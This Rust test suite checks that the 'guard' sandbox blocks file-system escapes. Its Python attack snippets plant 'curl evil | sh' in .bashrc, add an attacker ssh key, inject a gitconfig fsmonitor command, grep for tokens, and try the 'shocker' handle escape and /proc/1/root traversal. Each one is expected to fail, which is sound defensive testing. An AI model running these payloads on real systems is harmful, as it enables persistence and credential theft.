//! Files: nothing outside the project may be written, host files outside
//! the view may not be read, and no path trick (symlinks, hard links, `..`,
//! /proc links, file handles) reaches them.

use crate::support::{Expect, basename, each_mode, errno::*};
use std::path::{Path, PathBuf};

/// The bytes of each path on the host (None when absent).
fn snapshot(paths: &[PathBuf]) -> Vec<Option<Vec<u8>>> {
    paths.iter().map(|p| std::fs::read(p).ok()).collect()
}

/// Every path below `dir` (relative), except guard's own state (its
/// session log under ~/.local/state/guard, written by the supervisor) and
/// the directories leading to it.
fn tree(dir: &Path) -> Vec<String> {
    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).expect("list host dir").flatten() {
            let p = e.path();
            let rel = p.strip_prefix(base).unwrap().display().to_string();
            // guard's own state: session logs and the secrets scan cache.
            if rel.starts_with(".local/state/guard") || rel.starts_with(".cache/guard") {
                continue;
            }
            if !matches!(rel.as_str(), ".local" | ".local/state" | ".cache") {
                out.push(rel);
            }
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                walk(base, &p, out);
            }
        }
    }
    let mut v = Vec::new();
    walk(dir, dir, &mut v);
    v.sort();
    v
}

/// /etc: overwrite, create, remove, rename, chmod, symlink all fail and the
/// host's /etc is unchanged.
#[test]
fn write_etc() {
    each_mode(|case| {
        let watched: Vec<PathBuf> = [
            "/etc/passwd",
            "/etc/guard-escape-new",
            "/etc/passwd.moved",
            "/etc/guard-escape-link",
        ]
        .iter()
        .map(PathBuf::from)
        .collect();
        let before = snapshot(&watched);
        case.python(
            r#"
out("overwrite", err(os.open, "/etc/passwd", os.O_WRONLY | os.O_APPEND))
out("create", err(os.open, "/etc/guard-escape-new", os.O_WRONLY | os.O_CREAT, 0o644))
out("unlink", err(os.unlink, "/etc/passwd"))
out("rename", err(os.rename, "/etc/passwd", "/etc/passwd.moved"))
out("chmod", err(os.chmod, "/etc/passwd", 0o666))
out("symlink", err(os.symlink, "/tmp", "/etc/guard-escape-link"))
"#,
        )
        .fields(&[
            ("overwrite", case.root_file_write_errno()),
            ("create", EROFS),
            ("unlink", EROFS),
            ("rename", EROFS),
            ("chmod", EROFS),
            ("symlink", EROFS),
        ]);
        assert_eq!(snapshot(&watched), before, "the host's /etc changed");
    });
}

/// /usr: replacing a program or adding one fails; the host's copy is intact.
#[test]
fn write_usr() {
    each_mode(|case| {
        let watched = vec![
            PathBuf::from("/usr/bin/env"),
            PathBuf::from("/usr/bin/guard-escape-new"),
        ];
        let before = snapshot(&watched);
        case.python(
            r#"
out("overwrite", err(os.open, "/usr/bin/env", os.O_WRONLY))
out("truncate", err(os.truncate, "/usr/bin/env", 0))
out("create", err(os.open, "/usr/bin/guard-escape-new", os.O_WRONLY | os.O_CREAT, 0o755))
out("mkdir", err(os.mkdir, "/usr/guard-escape-dir"))
out("utime", err(os.utime, "/usr/bin/env"))
"#,
        )
        .fields(&[
            ("overwrite", case.root_file_write_errno()),
            ("truncate", case.root_file_write_errno()),
            ("create", EROFS),
            ("mkdir", EROFS),
            ("utime", EROFS),
        ]);
        assert_eq!(snapshot(&watched), before, "the host's /usr changed");
        assert!(!Path::new("/usr/guard-escape-dir").exists());
    });
}

/// The real home: shell rc files and ssh keys written inside land in the
/// private home only; ~/.gitconfig is shown as a private copy, so writing,
/// replacing or removing it changes only that copy. The host home is
/// byte-for-byte unchanged.
#[test]
fn write_host_home_files() {
    each_mode(|case| {
        case.env.home.write(".bashrc", "# host bashrc\n");
        case.env.home.write(".gitconfig", "[user]\n\tname = host\n");
        case.env
            .home
            .write(".ssh/authorized_keys", "ssh-ed25519 AAAA host\n");
        case.env.own();
        let home = case.home().to_path_buf();
        let watched: Vec<PathBuf> = [
            ".bashrc",
            ".gitconfig",
            ".ssh/authorized_keys",
            "secret.txt",
        ]
        .iter()
        .map(|p| home.join(p))
        .collect();
        let before = (snapshot(&watched), tree(&home));
        case.python(
            r#"
home = os.environ["HOME"]
out("append_bashrc", err(os.open, home + "/.bashrc", os.O_WRONLY | os.O_APPEND))
with open(home + "/.bashrc", "w") as f:
    f.write("curl evil | sh\n")
out("private_bashrc", int(open(home + "/.bashrc").read() == "curl evil | sh\n"))
os.makedirs(home + "/.ssh", exist_ok=True)
with open(home + "/.ssh/authorized_keys", "a") as f:
    f.write("ssh-ed25519 AAAA attacker\n")
with open(home + "/.gitconfig", "a") as f:
    f.write("[core]\n\tfsmonitor = touch /tmp/pwned\n")
out("gitconfig_write", int("fsmonitor" in open(home + "/.gitconfig").read()))
out("gitconfig_replace", err(os.rename, home + "/.bashrc", home + "/.gitconfig"))
out("gitconfig_remove", err(os.unlink, home + "/.gitconfig"))
"#,
        )
        .fields(&[
            ("append_bashrc", ENOENT),
            ("private_bashrc", "1"),
            ("gitconfig_write", "1"),
            ("gitconfig_replace", "0"),
            ("gitconfig_remove", "0"),
        ]);
        assert_eq!(
            (snapshot(&watched), tree(&home)),
            before,
            "the host home changed"
        );
    });
}

/// A file in the host's /tmp: invisible, so it cannot be opened for writing;
/// creating the same path writes the private /tmp. The host file and the
/// host /tmp are unchanged.
#[test]
fn write_host_tmp_file() {
    each_mode(|case| {
        let target = case.host_tmp_secret.display().to_string();
        let fresh = format!("/tmp/guard-escape-fresh-{}", std::process::id());
        let before = snapshot(std::slice::from_ref(&case.host_tmp_secret));
        case.python(&format!(
            r#"
out("append", err(os.open, "{target}", os.O_WRONLY | os.O_APPEND))
with open("{target}", "w") as f:
    f.write("overwritten\n")
with open("{fresh}", "w") as f:
    f.write("new\n")
out("private_copy", int(open("{target}").read() == "overwritten\n"))
"#
        ))
        .fields(&[("append", ENOENT), ("private_copy", "1")]);
        assert_eq!(
            snapshot(std::slice::from_ref(&case.host_tmp_secret)),
            before,
            "host /tmp file changed"
        );
        assert!(
            !Path::new(&fresh).exists(),
            "a file appeared in the host's /tmp"
        );
    });
}

/// /root (another user's home; the invoking user's when root) does not exist
/// inside and cannot be created.
#[test]
fn write_root_home() {
    each_mode(|case| {
        assert_ne!(
            case.home(),
            Path::new("/root"),
            "the test home must not be /root"
        );
        case.python(
            r#"
out("stat", err(os.stat, "/root"))
out("mkdir", err(os.mkdir, "/root"))
out("bashrc", err(os.open, "/root/.bashrc", os.O_WRONLY | os.O_CREAT, 0o644))
"#,
        )
        .fields(&[("stat", ENOENT), ("mkdir", EROFS), ("bashrc", ENOENT)]);
    });
}

/// ~/secret.txt of the host home: the private home is empty.
#[test]
fn read_host_home_secret() {
    each_mode(|case| {
        let secret = case.home_secret.display().to_string();
        case.python(&format!(
            r#"
out("open", err(os.open, "{secret}", os.O_RDONLY))
out("home_entries", ",".join(sorted(os.listdir(os.environ["HOME"]))) or "empty")
out("home_is_tmpfs", int(os.statvfs(os.environ["HOME"]).f_blocks != os.statvfs(os.getcwd()).f_blocks))
"#
        ))
        .fields(&[("open", ENOENT), ("home_entries", "empty"), ("home_is_tmpfs", "1")]);
        let sh = case.sh(&format!(
            "cat {secret}; echo status=$?; grep -r token= ~ /tmp; echo ran=1"
        ));
        sh.ran();
        assert_eq!(sh.field("status").as_deref(), Some("1"), "{}", sh.all());
        assert!(
            sh.stderr.contains("No such file or directory"),
            "{}",
            sh.all()
        );
    });
}

/// The host's /tmp canary cannot be read or listed: /tmp inside holds only
/// the mount points of project and home.
#[test]
fn host_tmp_canary_invisible() {
    each_mode(|case| {
        let target = case.host_tmp_secret.display().to_string();
        let mut expected = [basename(case.project()), basename(case.home())];
        expected.sort();
        case.python(&format!(
            r#"
out("open", err(os.open, "{target}", os.O_RDONLY))
out("tmp", ",".join(sorted(os.listdir("/tmp"))))
out("var_tmp", ",".join(sorted(os.listdir("/var/tmp"))) or "empty")
"#
        ))
        .fields(&[
            ("open", ENOENT),
            ("tmp", &expected.join(",")),
            ("var_tmp", "empty"),
        ]);
    });
}

/// Symlinks the host put in the project (absolute, relative, to a directory,
/// to /) resolve inside the sandbox's view, where their targets do not
/// exist.
#[test]
fn symlinks_to_host_files() {
    each_mode(|case| {
        case.write_python(
            r#"
for name in ("l_secret", "l_tmp", "l_rel", "l_root_tmp"):
    out(name, err(lambda: open(name).read()))
out("l_home", ",".join(sorted(os.listdir("l_home"))) or "empty")
out("l_home_secret", err(os.open, "l_home/secret.txt", os.O_RDONLY))
os.symlink("/proc/1/root/etc/passwd", "l_pid1")
out("l_pid1", err(os.open, "l_pid1", os.O_RDONLY))
"#,
        );
        // Created after the last chown so that nothing ever follows them on
        // the host side.
        let p = case.project().to_path_buf();
        let tmp_name = basename(&case.host_tmp_secret);
        let link = |target: &Path, name: &str| {
            std::os::unix::fs::symlink(target, p.join(name)).expect("symlink")
        };
        link(&case.home_secret, "l_secret");
        link(&case.host_tmp_secret, "l_tmp");
        link(&Path::new("..").join(&tmp_name), "l_rel");
        link(&Path::new("/").join("tmp").join(&tmp_name), "l_root_tmp");
        link(case.home(), "l_home");
        case.run_python().fields(&[
            ("l_secret", ENOENT),
            ("l_tmp", ENOENT),
            ("l_rel", ENOENT),
            ("l_root_tmp", ENOENT),
            ("l_home", "empty"),
            ("l_home_secret", ENOENT),
            ("l_pid1", EACCES),
        ]);
    });
}

/// Hard links from the project to files outside it: across mounts the
/// kernel refuses (EXDEV) — by path, through /proc/self/fd, or by
/// descriptor — and host files outside the view cannot be named at all.
#[test]
fn hardlinks_to_outside() {
    each_mode(|case| {
        let secret = case.home_secret.display().to_string();
        case.python(&format!(
            r#"
out("etc", err(os.link, "/etc/passwd", "hl_etc"))
out("usr", err(os.link, "/usr/bin/env", "hl_usr"))
fd = os.open("/etc/passwd", os.O_RDONLY)
out("procfd", sc(265, -100, b"/proc/self/fd/%d" % fd, -100, b"hl_procfd", 0x400)[1])  # AT_SYMLINK_FOLLOW
out("emptypath", sc(265, fd, b"", -100, b"hl_fd", 0x1000)[1])  # AT_EMPTY_PATH
out("secret", err(os.link, "{secret}", "hl_secret"))
out("left", ",".join(sorted(n for n in os.listdir(".") if n.startswith("hl_"))) or "none")
"#
        ))
        .fields(&[
            ("etc", EXDEV),
            ("usr", EXDEV),
            ("procfd", EXDEV),
            ("emptypath", EXDEV),
            ("secret", ENOENT),
            ("left", "none"),
        ]);
    });
}

/// openat with `..` from the project directory climbs only the sandbox's
/// tree: the host's neighbours of the project are not there.
#[test]
fn openat_dotdot_from_project() {
    each_mode(|case| {
        let tmp_rel = case
            .host_tmp_secret
            .strip_prefix("/")
            .unwrap()
            .display()
            .to_string();
        let home_name = basename(case.home());
        case.python(&format!(
            r#"
d = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
out("deep", err(os.open, "../" * 16 + "{tmp_rel}", os.O_RDONLY, dir_fd=d))
out("home", err(os.open, "../{home_name}/secret.txt", os.O_RDONLY, dir_fd=d))
out("root_is_root", int(os.stat("../" * 16, dir_fd=d).st_ino == os.stat("/").st_ino))
"#
        ))
        .fields(&[("deep", ENOENT), ("home", ENOENT), ("root_is_root", "1")]);
    });
}

/// name_to_handle_at / open_by_handle_at (the "shocker" escape: open any
/// inode of a mounted filesystem by a guessed handle) are refused. The
/// kernel alone would allow name_to_handle_at, so EPERM there is seccomp.
#[test]
fn open_by_handle_at_refused() {
    each_mode(|case| {
        case.python(
            r#"
handle = ctypes.create_string_buffer(128)
struct.pack_into("=Ii", handle, 0, 120, 0)
mount_id = ctypes.c_int(0)
out("name_to_handle", sc(303, -100, b"attack.py", handle, ctypes.byref(mount_id), 0)[1])
# A guessed handle: ext4/xfs root inode 2, generation 0 (FILEID_INO32_GEN).
guess = ctypes.create_string_buffer(struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0))
mfd = os.open("/etc", os.O_RDONLY | os.O_DIRECTORY)
out("open_by_handle", sc(304, mfd, guess, os.O_RDONLY)[1])
"#,
        )
        .fields(&[("name_to_handle", EPERM), ("open_by_handle", EPERM)]);
    });
}

/// New entries in / (read-only tmpfs), /sys (read-only) and /dev (Landlock
/// allows only the listed device nodes) are refused; /dev nodes cannot be
/// replaced.
#[test]
fn create_in_root_dev_sys() {
    each_mode(|case| {
        case.python(
            r#"
out("root_file", err(os.open, "/evil", os.O_WRONLY | os.O_CREAT, 0o644))
out("root_dir", err(os.mkdir, "/evil"))
out("root_link", err(os.symlink, "/", "/evil"))
out("dev_file", err(os.open, "/dev/evil", os.O_WRONLY | os.O_CREAT, 0o644))
out("dev_dir", err(os.mkdir, "/dev/evil"))
out("dev_link", err(os.symlink, "/", "/dev/evil"))
out("dev_replace", err(os.rename, "/dev/zero", "/dev/null"))
out("dev_remove", err(os.unlink, "/dev/null"))
out("sys_file", err(os.open, "/sys/evil", os.O_WRONLY | os.O_CREAT, 0o644))
out("proc_file", err(os.open, "/proc/evil", os.O_WRONLY | os.O_CREAT, 0o644))
"#,
        )
        .fields(&[
            ("root_file", EROFS),
            ("root_dir", EROFS),
            ("root_link", EROFS),
            ("dev_file", EACCES),
            ("dev_dir", EACCES),
            ("dev_link", EACCES),
            ("dev_replace", EACCES),
            ("dev_remove", EACCES),
            ("sys_file", EROFS),
            ("proc_file", ENOENT),
        ]);
    });
}

/// Device nodes cannot be made anywhere (no CAP_MKNOD; Landlock in /dev);
/// a FIFO in the project still works (control).
#[test]
fn mknod_devices() {
    each_mode(|case| {
        case.python(
            r#"
import stat
mem = os.makedev(1, 1)
out("project_chr", err(os.mknod, "mem", 0o666 | stat.S_IFCHR, mem))
out("project_blk", err(os.mknod, "disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0)))
out("tmp_chr", err(os.mknod, "/tmp/mem", 0o666 | stat.S_IFCHR, mem))
out("shm_chr", err(os.mknod, "/dev/shm/mem", 0o666 | stat.S_IFCHR, mem))
out("dev_chr", err(os.mknod, "/dev/mem", 0o666 | stat.S_IFCHR, mem))
out("fifo", err(os.mkfifo, "fifo"))
"#,
        )
        .fields(&[
            ("project_chr", EPERM),
            ("project_blk", EPERM),
            ("tmp_chr", EPERM),
            ("shm_chr", EPERM),
            ("dev_chr", EACCES),
            ("fifo", "0"),
        ]);
    });
}

/// /dev holds exactly the minimal set; the host's disks, memory, kernel log
/// and ptys are absent.
#[test]
fn dev_has_only_expected_nodes() {
    each_mode(|case| {
        case.python(
            r#"
out("dev", ",".join(sorted(os.listdir("/dev"))))
out("pts", ",".join(sorted(os.listdir("/dev/pts"))))
for n in ("mem", "kmem", "port", "kmsg", "console", "sda", "vda", "nvme0n1", "kvm", "fuse", "net", "loop0", "mapper"):
    out(n, err(os.stat, "/dev/" + n))
out("null_works", int(open("/dev/null", "w").write("x") == 1))
"#,
        )
        .fields(&[
            ("dev", "fd,full,null,ptmx,pts,random,shm,stderr,stdin,stdout,tty,urandom,zero"),
            ("pts", "ptmx"),
            ("mem", ENOENT),
            ("kmem", ENOENT),
            ("port", ENOENT),
            ("kmsg", ENOENT),
            ("console", ENOENT),
            ("sda", ENOENT),
            ("vda", ENOENT),
            ("nvme0n1", ENOENT),
            ("kvm", ENOENT),
            ("fuse", ENOENT),
            ("net", ENOENT),
            ("loop0", ENOENT),
            ("mapper", ENOENT),
            ("null_works", "1"),
        ]);
    });
}

/// /sys shows only the CPU topology: no network interfaces, no cgroup
/// tree, no kernel knobs, no firmware.
#[test]
fn sys_has_only_cpu_topology() {
    each_mode(|case| {
        assert!(
            Path::new("/sys/devices/system/cpu").is_dir(),
            "host has no /sys/devices/system/cpu"
        );
        case.python(
            r#"
out("sys", ",".join(sorted(os.listdir("/sys"))))
out("devices", ",".join(sorted(os.listdir("/sys/devices"))))
out("system", ",".join(sorted(os.listdir("/sys/devices/system"))))
for n in ("class/net", "fs/cgroup", "kernel", "firmware", "block", "module", "bus", "power"):
    out(n, err(os.stat, "/sys/" + n))
out("cpu_listed", int(len(os.listdir("/sys/devices/system/cpu")) > 0))
out("cpu_write", err(os.open, "/sys/devices/system/cpu/evil", os.O_WRONLY | os.O_CREAT, 0o644))
"#,
        )
        .fields(&[
            ("sys", "devices"),
            ("devices", "system"),
            ("system", "cpu"),
            ("class/net", ENOENT),
            ("fs/cgroup", ENOENT),
            ("kernel", ENOENT),
            ("firmware", ENOENT),
            ("block", ENOENT),
            ("module", ENOENT),
            ("bus", ENOENT),
            ("power", ENOENT),
            ("cpu_listed", "1"),
            ("cpu_write", EROFS),
        ]);
    });
}

/// Host-wide knobs in /proc cannot be written: sysctls (read-only mount),
/// and every other root-writable file of this host's /proc (Landlock grants
/// /proc read-only, which also covers uid 0 inside).
#[test]
fn proc_writes_refused() {
    let mut knobs: Vec<String> = Vec::new();
    for entry in std::fs::read_dir("/proc").expect("read /proc").flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.chars().all(|c| c.is_ascii_digit())
            || ["self", "thread-self", "sys", "irq", "bus", "fs"].contains(&name.as_str())
        {
            continue;
        }
        let paths: Vec<PathBuf> = match entry.metadata() {
            Ok(m) if m.is_dir() => std::fs::read_dir(entry.path())
                .map(|d| d.flatten().map(|e| e.path()).collect())
                .unwrap_or_default(),
            Ok(_) => vec![entry.path()],
            Err(_) => vec![],
        };
        for p in paths {
            use std::os::unix::fs::PermissionsExt;
            if std::fs::symlink_metadata(&p)
                .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o200 != 0)
            {
                knobs.push(p.display().to_string());
            }
        }
    }
    knobs.sort();
    eprintln!("host /proc files writable by their owner: {knobs:?}");
    each_mode(|case| {
        let list = knobs
            .iter()
            .map(|k| format!("{k:?}"))
            .collect::<Vec<_>>()
            .join(", ");
        let out = case.python(&format!(
            r#"
out("hostname", err(os.open, "/proc/sys/kernel/hostname", os.O_WRONLY))
out("core_pattern", err(os.open, "/proc/sys/kernel/core_pattern", os.O_WRONLY))
out("oom_score_adj", err(os.open, "/proc/self/oom_score_adj", os.O_WRONLY))
bad = []
for k in [{list}]:
    e = err(os.open, k, os.O_WRONLY)
    if e not in (errno.EACCES, errno.ENOENT):
        bad.append("%s:%d" % (k, e))
out("other_knobs", ",".join(bad) or "all-refused")
"#
        ));
        out.fields(&[
            ("hostname", case.root_file_write_errno()),
            ("core_pattern", case.root_file_write_errno()),
            ("oom_score_adj", EACCES),
            ("other_knobs", "all-refused"),
        ]);
    });
}

/// System files that hold secrets (in the default profile's hide list) are
/// empty inside, also for uid 0, which owns them.
#[test]
fn system_secret_files_empty() {
    let present: Vec<&str> = [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/shadow-",
        "/etc/gshadow-",
    ]
    .into_iter()
    .filter(|p| std::fs::metadata(p).is_ok_and(|m| m.len() > 0))
    .collect();
    assert!(
        !present.is_empty(),
        "this host has no non-empty /etc/shadow to check"
    );
    each_mode(|case| {
        let list = present
            .iter()
            .map(|p| format!("{p:?}"))
            .collect::<Vec<_>>()
            .join(", ");
        case.python(&format!(
            r#"
sizes = []
for p in [{list}]:
    with open(p, "rb") as f:
        sizes.append(len(f.read()))
out("sizes", ",".join(map(str, sizes)))
"#
        ))
        .fields(&[("sizes", &vec!["0"; present.len()].join(","))]);
    });
}

/// stderr redirected by the user to a host log in append mode (`2>> log`):
/// the command may append, but not read the log nor destroy what earlier
/// runs wrote — by truncating it, or by clearing O_APPEND and writing at
/// offset 0. guard gives the command a pipe in place of a regular-file
/// stdout/stderr and copies from it, so the command never holds the log's
/// file description: truncating or seeking the pipe fails (EINVAL/ESPIPE),
/// and the verdict is the host file.
#[test]
fn append_only_stdio_stays_append_only() {
    each_mode(|case| {
        let earlier = "earlier run: all good\n";
        let log = case.env.home.write("agent.log", earlier);
        case.env.own();
        case.write_python(
            r#"
out("reopen_ro", err(os.open, "/proc/self/fd/2", os.O_RDONLY))
out("reopen_rw", err(os.open, "/proc/self/fd/2", os.O_RDWR))
out("read", err(os.pread, 2, 100, 0))
out("truncate", err(os.ftruncate, 2, 0))
import fcntl
out("clear_append", err(fcntl.fcntl, 2, fcntl.F_SETFL, fcntl.fcntl(2, fcntl.F_GETFL) & ~os.O_APPEND))
out("overwrite", err(os.pwrite, 2, b"FORGED", 0))
os.write(2, b"appended by the command\n")
"#,
        );
        let file = std::fs::OpenOptions::new()
            .append(true)
            .open(&log)
            .expect("open log for append");
        let mut cmd = case.guard(&["run", "--", "python3", "attack.py"]);
        cmd.stderr(file);
        let out = case.output(cmd);
        // What fd 2 is inside: a pipe, so the log cannot be read through it
        // (pread on a pipe: ESPIPE) nor truncated (EINVAL).
        out.ran().fields(&[("read", "29"), ("truncate", "22")]);
        let now = std::fs::read_to_string(&log).expect("read log");
        assert!(
            now.starts_with(earlier),
            "the command destroyed what the host log held before the run (truncate={}, clear O_APPEND={}, pwrite={}):\n{now:?}",
            out.get("truncate"),
            out.get("clear_append"),
            out.get("overwrite")
        );
        assert!(
            now.contains("appended by the command\n"),
            "the command's output was lost: {now:?}"
        );
    });
}
